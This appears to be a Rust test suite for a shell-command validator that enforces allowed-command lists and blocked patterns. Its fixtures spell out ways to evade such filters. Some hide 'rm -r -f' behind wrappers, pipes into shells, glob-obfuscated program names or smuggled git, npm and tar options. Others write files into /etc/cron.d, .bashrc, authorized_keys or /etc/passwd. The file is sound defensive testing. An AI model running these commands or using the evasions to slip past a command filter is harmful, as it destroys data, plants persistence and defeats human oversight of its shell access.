//! Commands that a line hides: in scripts of shells, in what is piped, behind programs nobody knows.

use crate::setting::{allows, denies};
use serde_json::{Value, json};

const NAME: &str = "validateBlockedPatterns";

fn commands(list: &[&str]) -> Vec<Value> {
    list.iter()
        .map(|command| json!({ "command": command }))
        .collect()
}

#[test]
fn a_pattern_is_found_whichever_program_is_told_to_run_it() {
    denies(
        NAME,
        &json!({ "allowed_commands": ["*"], "blocked_patterns": ["rm -rf"] }),
        &commands(&[
            "bash -c -- 'rm -r -f x'",
            "bash -co pipefail 'rm -r -f x'",
            "bash -o pipefail -c 'rm -r -f x'",
            "zsh -oerrexit -c 'rm -r -f x'",
            "fish --command='rm -r -f x'",
            "trap 'rm -r -f x' EXIT",
            "trap -- 'rm -r -f x' EXIT",
            "alias x='rm -r -f x'",
            "coproc rm -r -f x",
            "coproc NAME { rm -r -f x; }",
            "function f { rm -r -f x; }",
            "f() { rm -r -f x; }",
            "time { rm -r -f x; }",
            "script -qc 'rm -r -f x' /dev/null",
            "setarch x86_64 rm -r -f x",
            "linux64 rm -r -f x",
            "prlimit rm -r -f x",
            "choom -n 1 -- rm -r -f x",
            "ssh host rm -r -f x",
            "ssh host 'rm -r -f x'",
            "docker exec c rm -r -f x",
            "kubectl exec p -- rm -r -f x",
            "some-program --with rm -r -f x",
            "hyperfine 'true; rm -r -f x'",
            "watch 'rm -r -f x'",
            "bind -x '\"a\":rm -r -f x'",
            "mapfile -C 'rm -r -f' x",
            "python -c 'import os; os.system(\"rm -r -f x\")'",
            "perl -e 'exec \"rm\",\"-r\",\"-f\",\"x\"'",
            "xargs -I% % -r -f x",
            "xargs -I{} sh -c '{} -r -f x'",
            "echo rm -r -f x | xargs env",
        ]),
        "oap.refused",
    );
}

#[test]
fn what_a_shell_is_fed_passes_no_list() {
    let fed = commands(&[
        "bash <<< 'id'",
        "bash < script",
        "bash <<EOF\nid\nEOF",
        "echo id | bash",
        "echo id | bash -s x",
        "echo id | bash -",
        "echo id | bash /dev/stdin",
        "echo id |& env bash",
        "echo id | { bash; }",
        "echo id | sudo -u x sh -c bash",
        "echo id > >(bash)",
        "bash <(echo id)",
        ". <(echo id)",
        "source /dev/stdin < x",
        "echo x | python3",
        "echo x | python3.11 -W ignore -",
        "node < x.js",
        "echo id | at now",
        "echo x | crontab -",
        "echo id | ssh host",
        "echo id | docker exec -i c sh",
        "echo x | xargs bash -c",
        "bash -c \"$(cat x)\"",
        "eval \"$(cat x)\"",
        "eval `cat x`",
    ]);
    denies(
        NAME,
        &json!({ "allowed_commands": ["*"], "blocked_patterns": ["rm -rf"] }),
        &fed,
        "oap.refused",
    );
    denies(
        NAME,
        &json!({ "allowed_commands": ["bash", "echo", "python3", "node"] }),
        &commands(&[
            "echo id | bash",
            "bash <<< id",
            "echo x | python3",
            "node < x.js",
        ]),
        "oap.refused",
    );
}

#[test]
fn a_shell_that_is_fed_and_not_allowed_is_refused_as_not_allowed() {
    denies(
        NAME,
        &json!({ "allowed_commands": ["ls"], "blocked_patterns": ["rm -rf"] }),
        &commands(&["ls | sh", "sh <<< ls"]),
        "oap.command_not_allowed",
    );
}

#[test]
fn a_program_that_only_the_files_name_passes_no_pattern() {
    denies(
        NAME,
        &json!({ "allowed_commands": ["*"], "blocked_patterns": ["rm -rf", "curl"] }),
        &commands(&[
            "/bin/r* -r -f x",
            "/bin/r[m] -r x",
            "c?rl x",
            "env /usr/bin/c?rl x",
            "ls; /bin/r? x",
        ]),
        "oap.refused",
    );
}

#[test]
fn bundles_and_words_cut_short_hide_no_program() {
    let limits = json!({ "allowed_commands": ["git", "npm", "tar", "cp", "script"] });
    denies(
        NAME,
        &limits,
        &commands(&[
            "git rebase -ixid HEAD",
            "git rebase -ix id HEAD",
            "git difftool -yx id",
            "git clone -qu id x",
            "git grep -nOid x",
            "npm --prefix /tmp exec id",
            "npm --prefix /tmp x id",
            "npm exe -- id",
            "npm expl x -- id",
            "npm exec --prefix git id",
            "tar -cIid -f a x",
            "script -qc id",
        ]),
        "oap.command_not_allowed",
    );
    denies(
        NAME,
        &limits,
        &commands(&[
            "npm config set script-shell id",
            "npm config set script-shell=id",
            "npm conf set git id",
            "npm set script-shell id",
            "npm c set node-options x",
            "npm --git=id install",
            "tar cIf id a.tar x",
        ]),
        "oap.refused",
    );
    allows(
        NAME,
        &limits,
        &commands(&[
            "git rebase -i HEAD",
            "git rebase -Xours main",
            "git rebase -ix 'npm test' HEAD",
            "git clone -bupdate x",
            "git grep -n x",
            "npm config get registry",
            "npm config set registry https://x.example",
            "npm --prefix web run build",
            "npm --prefix web exec git status",
            "npm exec -y -- git status",
            "npm exec -p git git status",
            "npm ci",
            "npm explain x",
            "tar czf a.tar.gz x",
            "tar -xzf a.tar.gz",
            "tar -cf Image.tar x",
        ]),
    );
}

#[test]
fn options_and_wildcards_write_nowhere_that_takes_over_the_machine() {
    denies(
        NAME,
        &json!({ "allowed_commands": ["*"] }),
        &commands(&[
            "cp -t /etc/cron.d a",
            "cp -rt /etc/cron.d a",
            "cp -t/etc/cron.d a",
            "cp --targ /etc/cron.d a",
            "mv --target-directory=/etc/cron.d a",
            "git log --output=/home/u/.bashrc",
            "git log --output /home/u/.bashrc",
            "git archive --output=/etc/cron.d/x HEAD",
            "git archive -o /etc/cron.d/x HEAD",
            "curl -so /etc/cron.d/x https://x.example",
            "wget -qO /etc/cron.d/x https://x.example",
            "cp a /e*c/cron.d/x",
            "cp -t /e*c/cron.d a",
            "cp a /home/u/.s?h/authorized_key?",
            "echo x > /e[t]c/passwd",
            "echo x | tee /et?/passwd",
        ]),
        "oap.refused",
    );
    allows(
        NAME,
        &json!({ "allowed_commands": ["*"] }),
        &commands(&[
            "cp *.txt out/",
            "mv a[0-9].txt out",
            "cp -rt out a b",
            "cp a 'b*'",
            "git log --output=log.txt",
            "git archive -o out.zip HEAD",
            "curl -so out.json https://x.example",
            "wget -qO- https://x.example",
            "grep -o root /etc/hosts",
            "tar -xzf a.tar.gz --output-none",
        ]),
    );
}

#[test]
fn plain_commands_pass_under_lists() {
    let plain = commands(&[
        "ls -la",
        "ls *.rs",
        "git status",
        "git log --oneline | head -5",
        "git commit -m \"fix: drop the rm of a table (and more); see docs\"",
        "npm test",
        "npm run build -- --force",
        "npm run lint && npm test",
        "echo hi > out.txt",
        "echo 'a | b' >> notes.md",
        "cat notes.md | grep -n x | wc -l",
        "cat x.json | python3 -m json.tool",
        "cat x.csv | python3 parse.py -",
        "cat x.json | node -e 'console.log(1)'",
        "ps aux | grep bash",
        "python3 --version | head -1",
        "node -v | cat",
        "bash --version | head -1",
        "bash build.sh < input.txt",
        "bash -eo pipefail -c 'npm test | tee out.txt'",
        "sh -c 'git status'",
        "bash -lc \"npm test\"",
        "find . -name '*.rs' | xargs grep -l x",
        "find . -type f -print0 | xargs -0 wc -l",
        "ls | xargs -I{} cp {} out",
        "for f in *.txt; do wc -l $f; done",
        "if [ -f x ]; then cat x; fi",
        "case $x in a) ls;; *) cat x;; esac",
        "docker ps | grep web",
        "docker build -t x . | tail -1",
        "ssh host uptime | cat",
        "cd web && npm ci",
        "sort x | uniq -c > counts.txt",
        "diff <(sort a) <(sort b)",
        "make -j4 2>&1 | tee build.log",
        "cat > list.md <<EOF\n* one\n* two\nEOF",
        "chmod -R 755 dist",
        "rm -f build/x",
        "rm -r build",
        "trap - EXIT",
        "curl -s https://x.example | jq .",
    ]);
    let all = json!({ "allowed_commands": ["*"], "blocked_patterns": ["rm -rf", "DROP TABLE", "sudo", "git push --force"] });
    allows(NAME, &all, &plain);
    allows(NAME, &json!({ "allowed_commands": ["*"] }), &plain);
    let listed = json!({
        "allowed_commands": ["ls", "git", "npm", "echo", "cat", "head", "bash", "python3", "grep", "tee"],
        "blocked_patterns": ["rm -rf"]
    });
    allows(
        NAME,
        &listed,
        &commands(&[
            "ls -la",
            "git status",
            "npm test",
            "echo hi > out.txt",
            "git log | head -5",
            "bash",
            "bash build.sh",
            "python3 x.py",
            "cat f | python3 x.py",
            "cat f | grep x | tee out.txt",
        ]),
    );
}
